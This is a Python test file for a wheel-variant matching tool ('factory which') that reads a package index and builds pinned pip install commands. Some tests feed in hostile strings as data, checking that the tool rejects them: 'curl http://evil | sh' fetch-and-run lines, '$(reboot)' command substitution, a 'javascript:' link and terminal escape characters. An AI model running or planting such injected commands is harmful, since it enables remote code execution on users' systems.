"""`factory which`: variant matching (pure) and reading an index's list of variant indexes."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from factory.consume.which import (
    Environment,
    choose_variant,
    covers,
    describe_environment,
    detect_environment,
    normalize_index_url,
    parse_nvidia_smi,
    parse_probe,
    parse_variant_id,
    result_lines,
    which,
)
from factory.core.errors import ConfigError, FactoryError
from factory.core.variants import Variant
from factory.publish import index, installcmd

NEW = "cu130-torch2.14-abi1-sm80.90"
OLD = "cu128-torch2.10-abi1-sm80.90"
ABI0 = "cu130-torch2.14-abi0-sm80.90"
SHA = "ab" * 32
WHEEL = "flash_attn-2.8.3+cu13.0.torch2.14.abi1.sm80.90-py3-none-any.whl"


def project_page(directory: Path, project: str, filenames: list[str], variant_id: str = NEW) -> None:
    """A project page of a variant index as publishing writes it (each file's sha256 SHA)."""
    records = [index.FileRecord(filename=n, sha256=SHA, size=1, upload_time="") for n in filenames]
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "index.html").write_text(index.project_html(project, records, variant_id=variant_id))


def local_index(root: Path) -> str:
    """An index whose NEW variant lists flash-attn (WHEEL); the URL of its root."""
    (root / "simple" / NEW).mkdir(parents=True)
    (root / "simple" / "index.html").write_text(index.top_root_html([NEW, OLD]))
    (root / "simple" / NEW / "index.html").write_text(index.variant_root_html(["flash-attn"]))
    project_page(root / "simple" / NEW / "flash-attn", "flash-attn", [WHEEL])
    return root.resolve().as_uri()


def pinned_commands(root_url: str, torch: str = "torch==2.14.1") -> tuple[str, str]:
    """The commands for WHEEL by URL and hash, torch pinned (2.14's default build: from the default index)."""
    wheel = installcmd.Wheel(filename=WHEEL, url=f"{root_url}/files/{NEW}/{quote(WHEEL)}", sha256=SHA)
    torch_ = installcmd.Torch(requirement=torch)
    return installcmd.commands(installcmd.Install(project="flash-attn", torch=torch_, wheel=wheel))


def env(**kw: object) -> Environment:
    fields: dict[str, object] = {
        "python": "3.11",
        "torch": "2.14.1",
        "cuda": "13.0",
        "cxx11_abi": True,
        "gpus": ("9.0",),
    }
    fields.update(kw)
    return Environment(**fields)  # type: ignore[arg-type]


def test_parse_variant_id_inverts_variant_id() -> None:
    v = Variant(
        package="p",
        version="1",
        cuda="12.8",
        torch="2.10",
        cxx11_abi=False,
        archs=("8.0", "9.0a", "10.0", "12.0"),
    )
    key = parse_variant_id(v.id)
    assert key is not None
    assert (key.cuda, key.torch, key.cxx11_abi, key.archs) == ("12.8", "2.10", False, v.archs)
    assert parse_variant_id("pip") is None
    assert parse_variant_id("cu130-torch2.14-abi1") is None


@pytest.mark.parametrize(
    ("archs", "gpu", "ok"),
    [
        (("8.0",), "8.0", True),
        (("8.0",), "8.6", True),  # SASS runs on later minors of the same major
        (("8.6",), "8.0", False),
        (("8.0",), "9.0", False),  # never across majors
        (("9.0a",), "9.0", True),
        (("9.0a",), "10.0", False),
        (("8.0", "10.0"), "10.3", True),
        (("10.0a",), "10.3", False),  # arch-specific: that capability only
        (("10.0f",), "10.3", True),  # family: its later minors too
        (("12.0f",), "12.1", True),
        (("sm_120f",), "10.0", False),
    ],
)
def test_covers(archs: tuple[str, ...], gpu: str, ok: bool) -> None:
    assert covers(archs, gpu) is ok


def test_exact_match_chosen() -> None:
    choice = choose_variant(env(), [OLD, NEW, ABI0])
    assert choice.match == NEW and choice.notes == ()


def test_abi_decides() -> None:
    assert choose_variant(env(cxx11_abi=False), [NEW, ABI0]).match == ABI0


def test_torch_minor_must_match_and_full_pin_preferred() -> None:
    pinned = "cu130-torch2.14.1-abi1-sm80.90"
    assert choose_variant(env(), [NEW, pinned]).match == pinned
    assert choose_variant(env(torch="2.14.0"), [pinned]).match is None
    assert choose_variant(env(torch="2.13.0"), [NEW]).match is None


def test_cuda_minor_difference_is_a_note_major_difference_blocks() -> None:
    choice = choose_variant(env(cuda="13.1"), [NEW])
    assert choice.match == NEW and "CUDA" in choice.notes[0]
    nearer = choose_variant(env(cuda="13.1"), [NEW, "cu131-torch2.14-abi1-sm80.90"])
    assert nearer.match == "cu131-torch2.14-abi1-sm80.90"
    assert choose_variant(env(cuda="12.8"), [NEW]).match is None


def test_gpu_without_code_blocks_and_nearest_is_reported() -> None:
    choice = choose_variant(env(gpus=("12.0",)), [NEW, OLD])
    assert choice.match is None
    assert choice.nearest == NEW
    assert any("12.0" in r for r in choice.reasons)


def test_no_gpu_means_any_arch_set() -> None:
    assert choose_variant(env(gpus=()), [NEW]).match == NEW


def test_smaller_arch_set_preferred_among_equals() -> None:
    wide = "cu130-torch2.14-abi1-sm80.90.100.120"
    assert choose_variant(env(), [wide, NEW]).match == NEW


def test_without_torch_nothing_matches() -> None:
    choice = choose_variant(env(torch=None, cuda=None, cxx11_abi=None), [NEW])
    assert choice.match is None and choice.reasons == (
        "torch is not installed and no NVIDIA driver was found",
    )


def test_cpu_torch_matches_nothing() -> None:
    assert choose_variant(env(cuda=None), [NEW]).match is None


def test_empty_index() -> None:
    choice = choose_variant(env(), ["not-a-variant"])
    assert choice.match is None and choice.nearest is None


def test_parse_nvidia_smi() -> None:
    assert parse_nvidia_smi("9.0\n8.6\n9.0\n10.3\n") == ("8.6", "9.0", "10.3")
    assert parse_nvidia_smi("[N/A]\n90\n9.0a\n8.10\n") == ()


def test_cuda_12_10_host_gets_the_12_10_index() -> None:
    cu12_10 = "cu12.10-torch2.14-abi1-sm80.90"
    cu129 = "cu129-torch2.14-abi1-sm80.90"
    choice = choose_variant(env(cuda="12.10"), [cu129, cu12_10, "cu1210-torch2.14-abi1-sm80.90"])
    assert choice.match == cu12_10 and choice.notes == ()
    assert choose_variant(env(cuda="12.9"), [cu129, cu12_10]).match == cu129


def test_ids_outside_the_grammar_are_not_variants() -> None:
    hostile = ["cu1-torch2.14-abi1-sm80", "demo-ext; curl x | sh", "cu130-torch2.14-abi1-sm80.90x"]
    choice = choose_variant(env(), hostile)
    assert choice.match is None and choice.nearest is None


def test_normalize_index_url(tmp_path: Path) -> None:
    assert normalize_index_url("http://h/idx") == "http://h/idx/simple/"
    assert normalize_index_url("http://h/idx/simple/") == "http://h/idx/simple/"
    assert normalize_index_url(str(tmp_path)) == tmp_path.resolve().as_uri() + "/simple/"
    with pytest.raises(ConfigError):
        normalize_index_url(str(tmp_path / "absent"))
    with pytest.raises(ConfigError, match="not a URL of"):
        normalize_index_url("ftp://h/idx")


def test_detect_environment_of_this_interpreter() -> None:
    found = detect_environment(sys.executable)
    assert found.python == f"{sys.version_info.major}.{sys.version_info.minor}"
    if found.torch is None:
        assert found.cuda is None and found.cxx11_abi is None


def test_which_reads_a_local_index(tmp_path: Path) -> None:
    root = local_index(tmp_path)
    result = which(str(tmp_path), env=env())
    assert result.choice.match == NEW
    # the file itself, by URL and hash; the installed torch pinned so that nothing swaps it
    assert result.commands == (pinned_commands(root),)
    assert "torch==2.14.1" in result.commands[0][0] and f"flash-attn @ {root}/files/" in result.commands[0][0]
    other = which(str(tmp_path), env=env(), default_index="https://mirror.example/simple")
    assert "--index-url https://mirror.example/simple " in other.commands[0][0]
    assert which(str(tmp_path), env=env(torch="2.9.0")).choice.match is None


def test_which_takes_the_wheel_pip_would_take(tmp_path: Path) -> None:
    """The newest wheel for this host; a yanked one, one whose Requires-Python excludes the host, an sdist
    and a wheel for another Python are never chosen."""
    root = local_index(tmp_path)
    page = tmp_path / "simple" / NEW / "flash-attn" / "index.html"
    newer = WHEEL.replace("2.8.3+", "2.9.0+")
    page.write_text(
        page.read_text()
        + f'<a href="../../../files/{NEW}/{quote(newer)}#sha256={SHA}" data-yanked="">{newer}</a>'
        + f'<a href="../../../files/{NEW}/{quote(newer)}#sha256={SHA}" data-requires-python="&gt;=3.99">'
        f"{newer}</a>"
        + f'<a href="../../../files/{NEW}/flash_attn-3.0.tar.gz#sha256={SHA}">flash_attn-3.0.tar.gz</a>'
        + f'<a href="../../../files/{NEW}/{quote(newer.replace("py3-none-any", "cp312-cp312-linux_x86_64"))}'
        f'#sha256={SHA}">x</a>'
    )
    assert which(str(tmp_path), env=env()).commands == (pinned_commands(root),)


def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
    simple = tmp_path / "simple"
    (simple / NEW).mkdir(parents=True)
    (simple / "index.html").write_text(
        '<a href="cu1-torch2.14-abi1-sm80/">cu1-torch2.14-abi1-sm80</a>'
        '<a href="x/">demo-ext; curl http://evil | sh</a>'
        f'<a href="javascript:alert(1)">{OLD}</a>'
        f'<a href="x\x1b]0;owned\x07/">{ABI0}</a>'
        f'<a href="{NEW}/">{NEW}</a>'
    )
    (simple / NEW / "index.html").write_text(
        '<a href="a/">demo-ext; curl http://evil | sh</a><a href="b/">$(reboot)</a><a href="c/">demo-ext</a>'
    )
    project_page(simple / NEW / "c", "demo-ext", ["demo_ext-1+l-py3-none-any.whl"])
    result = which(str(tmp_path), env=env())
    assert result.choice.match == NEW
    assert result.projects == ("demo-ext",)
    assert all("curl" not in pip and "$(" not in pip for pip, _uv in result.commands)
    # The javascript: link and the one with control characters are dropped: no candidates even for a host
    # they would suit.
    assert which(str(tmp_path), env=env(torch="2.10.0", cuda="12.8")).choice.match is None
    assert which(str(tmp_path), env=env(cxx11_abi=False)).choice.match is None


PROBED = {
    "python": "3.11",
    "torch": "2.14.1",
    "cuda": "13.0",
    "abi": True,
    "gpus": ["9.0"],
    "gpu_source": "torch",
}


def test_parse_probe_reads_the_last_line() -> None:
    found = parse_probe("a warning torch printed\n" + json.dumps(PROBED) + "\n", "/py")
    assert found == env(gpu_source="torch")
    assert parse_probe(json.dumps({**PROBED, "machine": "aarch64"}), "/py").machine == "aarch64"
    cpu = parse_probe(json.dumps({**PROBED, "torch": None, "cuda": None, "abi": None, "gpus": []}), "/py")
    assert (cpu.torch, cpu.cuda, cpu.cxx11_abi, cpu.gpus) == (None, None, None, ())


@pytest.mark.parametrize(
    ("output", "line"),
    [
        ("", "--python /py: not a Python interpreter (it printed nothing)"),
        ("-c import json\n", "--python /py: not a Python interpreter (it printed '-c import json')"),
        ("[1, 2]", "--python /py: not a Python interpreter (it printed '[1, 2]')"),
    ],
)
def test_output_that_is_no_probe_answer_is_a_bad_python(output: str, line: str) -> None:
    with pytest.raises(ConfigError) as exc:
        parse_probe(output, "/py")
    assert str(exc.value) == line
    assert exc.value.exit_code == 2


@pytest.mark.parametrize(
    ("change", "line"),
    [
        ({"gpus": ["sm_80"]}, "probing /py: gpus ['sm_80'] is not a list of compute capabilities like 9.0"),
        ({"gpus": "9.0"}, "probing /py: gpus '9.0' is not a list of strings"),
        ({"gpus": [9.0]}, "probing /py: gpus [9.0] is not a list of strings"),
        ({"python": 3}, "probing /py: python 3 is not a Python version like 3.11"),
        ({"cuda": "banana"}, "probing /py: cuda 'banana' is not a CUDA version like 12.8"),
        ({"torch": "banana"}, "probing /py: torch 'banana' is not a version"),
        ({"abi": 1}, "probing /py: abi 1 is not true, false or null"),
        ({"gpu_source": "x"}, "probing /py: gpu_source 'x' is not 'torch' or 'none'"),
        ({"glibc": "banana"}, "probing /py: glibc 'banana' is not a glibc version like 2.36"),
        ({"machine": "x86 64"}, "probing /py: machine 'x86 64' is not a machine name like x86_64"),
    ],
)
def test_a_malformed_probe_answer_is_a_probe_failure(change: dict[str, object], line: str) -> None:
    with pytest.raises(FactoryError) as exc:
        parse_probe(json.dumps({**PROBED, **change}), "/py")
    assert str(exc.value) == line
    assert exc.value.exit_code == 1


@pytest.mark.parametrize("key", sorted(PROBED))
def test_a_probe_answer_without_a_key_is_a_probe_failure(key: str) -> None:
    answer = {k: v for k, v in PROBED.items() if k != key}
    with pytest.raises(FactoryError, match=f"^probing /py: its answer lacks '{key}'$"):
        parse_probe(json.dumps(answer), "/py")


def fake_python(tmp_path: Path, prints: str) -> str:
    exe = tmp_path / "python"
    exe.write_text(f"#!/bin/sh\ncat <<'EOF'\n{prints}\nEOF\n")
    exe.chmod(0o755)
    return str(exe)


@pytest.mark.parametrize(
    ("python", "code", "fragment"),
    [
        ("/bin/true", 2, "--python /bin/true: not a Python interpreter (it printed nothing)"),
        (
            "/bin/echo",
            2,
            "--python /bin/echo: not a Python interpreter (it printed 'print(json.dumps(out))')",
        ),
        ("/bin/false", 1, "probing /bin/false failed: no output"),
        ("/nonexistent/python", 2, "--python /nonexistent/python: cannot run (No such file or directory)"),
        ("gpus", 1, "gpus ['sm_80'] is not a list of compute capabilities like 9.0"),
        ("lacks", 1, "its answer lacks 'gpus'"),
    ],
)
def test_the_which_command_says_a_bad_interpreter_in_one_line(
    python: str,
    code: int,
    fragment: str,
    tmp_path: Path,
    factory_cli: Callable[[list[str]], tuple[int, str]],
) -> None:
    (tmp_path / "index" / "simple").mkdir(parents=True)
    (tmp_path / "index" / "simple" / "index.html").write_text("<html></html>")
    if python == "gpus":
        python = fake_python(tmp_path, json.dumps({**PROBED, "gpus": ["sm_80"]}))
    elif python == "lacks":
        python = fake_python(tmp_path, json.dumps({k: v for k, v in PROBED.items() if k != "gpus"}))
    got, output = factory_cli(["which", "--index-url", str(tmp_path / "index"), "--python", python])
    assert got == code, output
    assert "Traceback" not in output
    (line,) = output.strip().splitlines()
    assert line.startswith("error: ") and line.endswith(fragment), line
    assert python in line


def test_what_factory_which_says_of_a_result(tmp_path: Path) -> None:
    root = local_index(tmp_path)
    assert describe_environment(env(cxx11_abi=None, gpus=())) == (
        "python 3.11, torch 2.14.1, CUDA 13.0, cxx11 ABI unknown, GPUs none (from none)"
    )
    lines = result_lines(which(str(tmp_path), env=env()))
    assert lines == ["variant: " + NEW, *pinned_commands(root)]
    with pytest.raises(FactoryError, match=f"^no variant index matches this host; nearest: {NEW} "):
        result_lines(which(str(tmp_path), env=env(torch="2.9.0")))


def test_a_bad_default_index_is_one_line_before_the_host_is_probed(
    tmp_path: Path, factory_cli: Callable[[list[str]], tuple[int, str]]
) -> None:
    local_index(tmp_path / "index")
    args = ["which", "--index-url", str(tmp_path / "index"), "--python", "/nonexistent/python"]
    got, output = factory_cli([*args, "--default-index", "ftp://mirror.example/simple"])
    assert got == 2 and "Traceback" not in output, output
    (line,) = output.strip().splitlines()
    assert line.startswith("error: ") and "--default-index" in line and "/nonexistent/python" not in line


def test_which_request_on_an_arm_host_asks_for_its_platform(
    tmp_path: Path, factory_cli: Callable[[list[str]], tuple[int, str]]
) -> None:
    """A DGX Spark (GB10, sm_121) no variant has code for: `factory which --request` writes a request for
    aarch64 into the local index, and prints the matrix lines that build it there; a machine the factory
    builds for no platform of gets no request, one line and exit 1."""
    from factory.plan.variantrequest import matrix_lines, parse_stored, read_requests

    local_index(tmp_path)
    spark = {**PROBED, "gpus": ["12.1"], "machine": "aarch64"}
    got, output = factory_cli(
        ["which", "-i", str(tmp_path), "--python", fake_python(tmp_path, json.dumps(spark)), "--request"]
    )
    assert got == 0, output
    [(name, request)] = read_requests(tmp_path / "_requests", warn=pytest.fail)
    assert not isinstance(request, str) and request.platform.name == "aarch64"
    assert parse_stored(name, (tmp_path / "_requests" / name).read_bytes()) == request
    lines = output.splitlines()
    assert lines[0].startswith("python 3.11 on aarch64, torch 2.14.1")
    assert (
        "missing: a variant for Python 3.11 on aarch64, CUDA 13.0, torch 2.14, cxx11 ABI 1, GPUs 12.1"
        in lines
    )
    assert lines[-1] == f"request {request.id[:12]} recorded: {tmp_path / '_requests' / name}"
    assert matrix_lines(request)[-1] in lines and matrix_lines(request)[-1].endswith(", platform: aarch64}")
    power = {**spark, "machine": "ppc64le"}
    got, output = factory_cli(
        ["which", "-i", str(tmp_path), "--python", fake_python(tmp_path, json.dumps(power)), "--request"]
    )
    assert got == 1, output
    assert output.splitlines()[-1] == (
        "error: nothing to request: the factory builds no wheel for this host's machine ppc64le "
        "(it builds x86_64, aarch64)"
    )
    assert len(list((tmp_path / "_requests").iterdir())) == 1
